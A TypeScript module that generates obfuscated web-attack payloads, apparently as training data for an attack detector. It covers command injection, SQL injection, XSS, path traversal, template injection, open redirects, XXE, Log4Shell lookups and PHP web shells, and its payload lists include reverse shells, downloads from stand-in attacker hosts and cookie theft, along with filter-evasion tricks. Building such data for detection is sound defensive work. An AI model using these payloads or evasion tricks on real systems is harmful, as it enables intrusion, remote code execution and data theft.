/**
 * Obfuscations attackers apply to get a known payload past a filter: random case, inline SQL
 * comments, whitespace substitutes, percent-encoding (once or twice), string concatenation, shell
 * quoting tricks, a benign-looking prefix. Training on them teaches the model the attack's grammar
 * rather than the exact strings of the shared lists.
 */
import { seededRandom } from '../prng.js';

type Random = () => number;

function pick<T>(items: readonly T[], random: Random): T {
  return items[Math.floor(random() * items.length)];
}

function randomCase(text: string, random: Random): string {
  let out = '';
  for (const ch of text) out += random() < 0.5 ? ch.toUpperCase() : ch.toLowerCase();
  return out;
}

function replaceSpaces(text: string, random: Random): string {
  const sub = pick(['/**/', '/*x*/', '\t', '\n', '%20', '+', '%09', '%0a', '  ', '/*!*/', '%a0'], random);
  return text.replace(/ /g, sub);
}

function percentEncode(text: string, random: Random, all: boolean): string {
  let out = '';
  for (const ch of text) {
    const c = ch.charCodeAt(0);
    const special = c < 128 && !/[A-Za-z0-9]/.test(ch);
    if (c < 128 && (all || special) && random() < 0.85) out += `%${c.toString(16).padStart(2, '0')}`;
    else out += ch;
  }
  return out;
}

function doubleEncode(text: string, random: Random): string {
  return percentEncode(text, random, false).replace(/%/g, '%25');
}

/** `'admin'` → `'ad'||'min'` / `'ad' 'min'` / `concat('ad','min')`. */
function splitSqlStrings(text: string, random: Random): string {
  return text.replace(/'([A-Za-z0-9_]{2,})'/g, (_, s: string) => {
    const cut = 1 + Math.floor(random() * (s.length - 1));
    const a = s.slice(0, cut);
    const b = s.slice(cut);
    return pick([`'${a}'||'${b}'`, `'${a}' '${b}'`, `concat('${a}','${b}')`, `'${a}'+'${b}'`], random);
  });
}

/** `alert(1)` → `window['al'+'ert'](1)`, `top[/al/.source+/ert/.source](1)`, `self['ale'+'rt'](1)`. */
function splitJsCalls(text: string, random: Random): string {
  return text.replace(/\b(alert|prompt|confirm|eval)\s*\(/gi, (_, fn: string) => {
    const cut = 1 + Math.floor(random() * (fn.length - 1));
    const host = pick(['window', 'top', 'self', 'parent', 'this'], random);
    return pick(
      [`${host}['${fn.slice(0, cut)}'+'${fn.slice(cut)}'](`, `${host}[/${fn.slice(0, cut)}/.source+/${fn.slice(cut)}/.source](`, `${fn}\u0060\u0060;${fn}(`],
      random,
    );
  });
}

/** `cat /etc/passwd` → `c'a't /e??/p?sswd`, `c\at`, `$IFS` for spaces. */
function shellTricks(text: string, random: Random): string {
  let out = text.replace(/\b(cat|ls|id|whoami|uname|wget|curl|nc|ping|bash|sh)\b/g, (cmd: string) => {
    const cut = 1 + Math.floor(random() * Math.max(1, cmd.length - 1));
    return pick([`${cmd.slice(0, cut)}''${cmd.slice(cut)}`, `${cmd.slice(0, cut)}\\${cmd.slice(cut)}`, `${cmd.slice(0, cut)}""${cmd.slice(cut)}`, cmd], random);
  });
  if (random() < 0.5) out = out.replace(/ /g, pick(['${IFS}', '$IFS$9', '\t', '%09'], random));
  if (random() < 0.3) out = out.replace(/\/etc\/passwd/g, pick(['/e??/p?sswd', '/etc/pa*wd', '/???/??ss??'], random));
  return out;
}

/** A value a form might legitimately hold, glued in front: injections usually follow real input. */
function benignPrefix(text: string, random: Random): string {
  return pick(['1', 'admin', 'john', 'test', '42', 'search', 'x', 'abc123', 'foo@example.com', '2024-01-01'], random) + text;
}

const GENERIC = [randomCase, replaceSpaces, (t: string, r: Random) => percentEncode(t, r, false), doubleEncode, benignPrefix];

/** One obfuscated variant of an attack payload; category picks the tricks that fit its language. */
export function mutateAttack(text: string, category: string, random: Random): string {
  let out = text;
  const steps = 1 + Math.floor(random() * 2);
  for (let s = 0; s < steps; s++) {
    const r = random();
    if (category === 'sqli' && r < 0.45) out = pick([splitSqlStrings, replaceSpaces, randomCase], random)(out, random);
    else if (category === 'xss' && r < 0.45) out = pick([splitJsCalls, randomCase], random)(out, random);
    else if (category === 'cmdexe' && r < 0.5) out = shellTricks(out, random);
    else out = pick(GENERIC, random)(out, random);
  }
  return out;
}

const SHELL_COMMANDS = [
  'id', 'whoami', 'uname -a', 'cat /etc/passwd', 'cat /etc/shadow', 'ping -c 3 127.0.0.1', 'ping -n 3 127.0.0.1', 'sleep 5',
  'ls -la', 'ls /', 'dir c:\\', 'type c:\\windows\\win.ini', 'net user', 'ifconfig', 'ipconfig /all', 'nslookup attacker.example',
  'curl http://attacker.example/x', 'wget http://attacker.example/s.sh -O /tmp/s.sh', 'nc -e /bin/sh attacker.example 4444',
  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'echo pwned', 'sh', 'pwd', 'hostname', 'ps aux', 'env', 'rm -rf /tmp/x', 'powershell -enc SQBFAFgA',
];
const SHELL_SEPARATORS = [';', '|', '||', '&', '&&', '\n', '%0a', '`', '$(', ';;'];

/** `<value><sep><command>[<sep>]`: the grammar of command injection, over commands attackers run first. */
function synthesizeCommandInjection(random: Random): string {
  const cmd = pick(SHELL_COMMANDS, random);
  const sep = pick(SHELL_SEPARATORS, random);
  const prefix = pick(['', '1', '127.0.0.1', 'x', 'test.txt', "'", '"', 'a@b.c'], random);
  const wrapped = sep === '`' ? `\`${cmd}\`` : sep === '$(' ? `$(${cmd})` : `${sep}${random() < 0.3 ? ' ' : ''}${cmd}`;
  return `${prefix}${wrapped}${pick(['', '', ';', ' #', '|', '&'], random)}`;
}

const SQL_CORES = [
  'or 1=1', 'and 1=2', 'or 2>1', 'and sleep(5)', 'or sleep(5)', 'and 1=(select 1 from dual)', 'union select null,null',
  'union all select 1,2,3', 'order by 5', 'and extractvalue(1,concat(0x7e,version()))', "or 'a'='a", 'and (select count(*) from users)>0',
  'waitfor delay \'0:0:5\'', 'and benchmark(5000000,md5(1))', 'or pg_sleep(5) is null', 'and updatexml(1,concat(0x7e,user()),1)',
  'having 1=1', 'group by 1,2', "and substring(@@version,1,1)='5'", 'or exists(select * from users)',
];

/** `<value><quote><parens> <core> <comment>`: SQL injection boundaries around common cores. */
function synthesizeSqlInjection(random: Random): string {
  const n = Math.floor(random() * 9000) + 1;
  const value = pick([String(n), `-${n}`, 'abc', '', 'admin'], random);
  const quote = pick(['', "'", '"', '%'], random);
  const parens = ')'.repeat(Math.floor(random() * 3));
  const alias = random() < 0.2 ? ` as ${pick(['a', 'x', 't1', 'q'], random)}` : '';
  const core = random() < 0.5 ? pick(SQL_CORES, random) : pick(SQL_CORES, random).replace(/\b\d+\b/g, () => String(Math.floor(random() * 9999)));
  const tail = pick(['', '--', '-- -', '#', '/*', ` and ${quote}${n}${quote}=${quote}${n}`, `;--`], random);
  const sep = pick([' ', ' ', '/**/', '+', '%20'], random);
  return `${value}${quote}${parens}${alias}${sep}${core.replace(/ /g, sep)}${tail}`;
}

const XSS_TAGS = ['img', 'svg', 'body', 'iframe', 'details', 'video', 'audio', 'input', 'a', 'div', 'marquee', 'object', 'math', 'style', 'select', 'textarea'];
const XSS_EVENTS = ['error', 'load', 'focus', 'mouseover', 'toggle', 'click', 'begin', 'pointerenter', 'animationstart', 'focusin', 'blur', 'start'];
const XSS_JS = ['alert(1)', 'prompt(1)', 'confirm`1`', "eval(atob('YWxlcnQoMSk='))", "fetch('//x.example/?c='+document.cookie)", "top['al'+'ert'](1)", 'alert(document.domain)', 'print()', 'location=`javascript:alert(1)`', 'import(`//x.example/m.js`)'];

/** Markup and script contexts around a handful of sinks: tag × event handler × JS call × breakout. */
function synthesizeXss(random: Random): string {
  const js = pick(XSS_JS, random);
  const tag = pick(XSS_TAGS, random);
  const q = pick(['', '"', "'"], random);
  const sep = pick([' ', '/', '\t', '%0a', ' '], random);
  const breakout = pick(['', '">', "'>", '</textarea>', '</title>', '-->', '</script>'], random);
  switch (Math.floor(random() * 5)) {
    case 0:
      return `${breakout}<${tag}${sep}src=x${sep}on${pick(XSS_EVENTS, random)}=${q}${js}${q}>`;
    case 1:
      return `${breakout}<${tag}${sep}on${pick(XSS_EVENTS, random)}=${q}${js}${q}${random() < 0.5 ? ' autofocus' : ''}>`;
    case 2:
      return `${pick(['javascript:', 'JaVaScRiPt:', 'java\tscript:', ' javascript:'], random)}${js}`;
    case 3:
      return `${breakout}<script>${js}</script>`;
    default:
      return `${pick(["'", '"'], random)}${pick(['-', ';', '+'], random)}${js}${pick(['-', ';//', '+'], random)}${pick(["'", '"'], random)}`;
  }
}

const TRAVERSAL_STEPS = ['../', '..\\', '..%2f', '%2e%2e%2f', '%2e%2e/', '..%5c', '%2e%2e%5c', '....//', '..;/', '%252e%252e%252f', '..%c0%af', '..%255c', '.%2e/', '..///', '..\\/'];
const TRAVERSAL_TARGETS = ['etc/passwd', 'etc/shadow', 'etc/hosts', 'etc/issue', 'proc/self/environ', 'proc/self/cmdline', 'windows/win.ini', 'boot.ini', 'winnt/win.ini', 'windows/system32/drivers/etc/hosts', 'WEB-INF/web.xml', 'var/log/apache2/access.log', '.env', '.git/config', 'root/.ssh/id_rsa', 'usr/local/apache2/conf/httpd.conf', 'inetpub/wwwroot/web.config'];

/** `<steps × depth><sensitive file>[%00.ext]`: path traversal over the encodings of a step. */
function synthesizeTraversal(random: Random): string {
  const step = pick(TRAVERSAL_STEPS, random);
  let target = pick(TRAVERSAL_TARGETS, random);
  if (step.includes('\\') || step.includes('5c')) target = target.replace(/\//g, pick(['\\', '%5c'], random));
  const lead = pick(['', '', '/', 'file:///', 'static/', 'images/', 'c:\\', 'php://filter/resource='], random);
  const tail = pick(['', '', '%00', '%00.png', '\u0000.jpg', '?', '#'], random);
  return `${lead}${step.repeat(1 + Math.floor(random() * 9))}${target}${tail}`;
}

/** Open redirect shapes: scheme-relative, backslash, userinfo, encoded slashes, whitespace tricks. */
function synthesizeOpenRedirect(random: Random): string {
  const host = pick(['evil.example', 'attacker.example.net', '3627734734', '0x7f.1', 'evil.example%2f%2e%2e', 'evil。example'], random);
  return pick(
    [`//${host}/`, `/\\${host}`, `\\/${host}`, `/%09/${host}`, `https:${host}`, `//trusted.example@${host}`, `https://trusted.example.${host}/`, `/%2f%2f${host}`, `///${host}/%2e%2e`, `//${host}%23.trusted.example`, `javascript://%0a${pick(XSS_JS, random)}`],
    random,
  );
}

/** Template expressions across engines: arithmetic probes and object-graph walks to code execution. */
function synthesizeSsti(random: Random): string {
  const n = 2 + Math.floor(random() * 97);
  return pick(
    [
      `{{${n}*${n}}}`, `\${${n}*${n}}`, `<%= ${n}*${n} %>`, `#{${n}*${n}}`, `*{${n}*${n}}`, `{{${n}*'${n}'}}`, '{{config.items()}}', '{{self.__dict__}}',
      "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
      "${T(java.lang.Runtime).getRuntime().exec('id')}", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', '{php}echo `id`;{/php}',
      '{{lipsum.__globals__.os.popen(\'id\').read()}}', '${{<%[%\'"}}%\\.', "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    ],
    random,
  );
}

/** LDAP filter, NoSQL operator and XML entity injection. */
function synthesizeQueryLanguage(random: Random): { text: string; category: string } {
  switch (Math.floor(random() * 3)) {
    case 0:
      return { category: 'ldap', text: pick(['*)(uid=*))(|(uid=*', 'admin*)((|userPassword=*)', '*)(|(objectClass=*)', 'x)(|(cn=*)', '*))%00', '*()|&\'', 'admin)(&)', '*)(mail=*'], random) };
    case 1:
      return {
        category: 'nosqli',
        text: pick(['{"$gt": ""}', '{"$ne": null}', '[$ne]=1', '[$regex]=.*', "'; return true; var x='", '{"$where": "sleep(1000)"}', "' || '1'=='1", '{"username": {"$in": ["admin"]}}', 'true, $where: \'1 == 1\''], random),
      };
    default:
      return {
        category: 'xxe',
        text: pick(
          ['<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % e SYSTEM "http://evil.example/x.dtd"> %e;]>', '<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=index.php">', '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>'],
          random,
        ),
      };
  }
}

/** Log4Shell lookups and their nesting obfuscations. */
function synthesizeJndi(random: Random): string {
  const proto = pick(['ldap', 'ldaps', 'rmi', 'dns', 'iiop', 'corba', 'nis', 'nds', 'http'], random);
  const jndi = pick(['jndi', '${lower:j}ndi', '${::-j}${::-n}${::-d}${::-i}', '${env:NOPE:-j}ndi', 'j${::-n}di', '${upper:j}${upper:n}${lower:d}${lower:i}'], random);
  const sep = pick([':', '${::-:}'], random);
  const host = pick(['evil.example', '${hostName}.evil.example', '10.0.0.1:1389', 'x.${env:USER}.evil.example'], random);
  return `${pick(['', '', 'x', 'Mozilla/5.0 '], random)}\${${jndi}${sep}${proto}://${host}/${pick(['a', 'Exploit', 'o=tomcat', ''], random)}}`;
}

/** Other code-injection shapes: Shellshock, OGNL, PHP, SSI, EL, CRLF header injection. */
function synthesizeCodeInjection(random: Random): string {
  const cmd = pick(['id', '/bin/cat /etc/passwd', 'curl evil.example', 'whoami'], random);
  return pick(
    [
      `() { :; }; ${pick(['/bin/bash -c', 'echo;', '/usr/bin/env'], random)} '${cmd}'`,
      `() { _; } >_[$($())] { ${cmd}; }`,
      `%{(#_='multipart/form-data').(#cmd='${cmd}').(@java.lang.Runtime@getRuntime().exec(#cmd))}`,
      `\${#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('${cmd}')}`,
      `<?php system('${cmd}'); ?>`,
      `<?php echo shell_exec($_GET['c']); ?>`,
      `<!--#exec cmd="${cmd}" -->`,
      `<!--#include virtual="/etc/passwd" -->`,
      `\${pageContext.request.getSession().setAttribute("a",1)}`,
      `\r\nSet-Cookie: session=${Math.floor(random() * 1e6)}`,
      `%0d%0aSet-Cookie:%20x=${Math.floor(random() * 1e6)}`,
      `\r\nLocation: http://evil.example/\r\n\r\n<script>alert(1)</script>`,
      `system('${cmd}');`,
      `eval(base64_decode('${pick(['c3lzdGVtKCJpZCIpOw==', 'cGhwaW5mbygpOw=='], random)}'))`,
      `__import__('os').system('${cmd}')`,
    ],
    random,
  );
}

/** Attacks built from grammar rather than taken from a list: command, SQL, script, path, template, redirect, LDAP/NoSQL/XXE, JNDI, other code injection. */
export function synthesizeAttacks(seed: number, count: number): { text: string; category: string }[] {
  const random = seededRandom(seed ^ 0xa77ac);
  const out: { text: string; category: string }[] = [];
  for (let i = 0; i < count; i++) {
    const kind = i % 10;
    if (kind === 0 || kind === 5) out.push({ text: synthesizeCommandInjection(random), category: 'cmdexe' });
    else if (kind === 1) out.push({ text: synthesizeSqlInjection(random), category: 'sqli' });
    else if (kind === 2) out.push({ text: synthesizeXss(random), category: 'xss' });
    else if (kind === 3) out.push({ text: synthesizeTraversal(random), category: 'traversal' });
    else if (kind === 4) out.push({ text: random() < 0.5 ? synthesizeSsti(random) : synthesizeOpenRedirect(random), category: 'ssti-redirect' });
    else if (kind === 6) out.push(synthesizeQueryLanguage(random));
    else if (kind === 8) out.push({ text: synthesizeJndi(random), category: 'jndi' });
    else if (kind === 9) out.push({ text: synthesizeCodeInjection(random), category: 'code-injection' });
    else out.push({ text: synthesizeSqlInjection(random), category: 'sqli' });
  }
  return out;
}
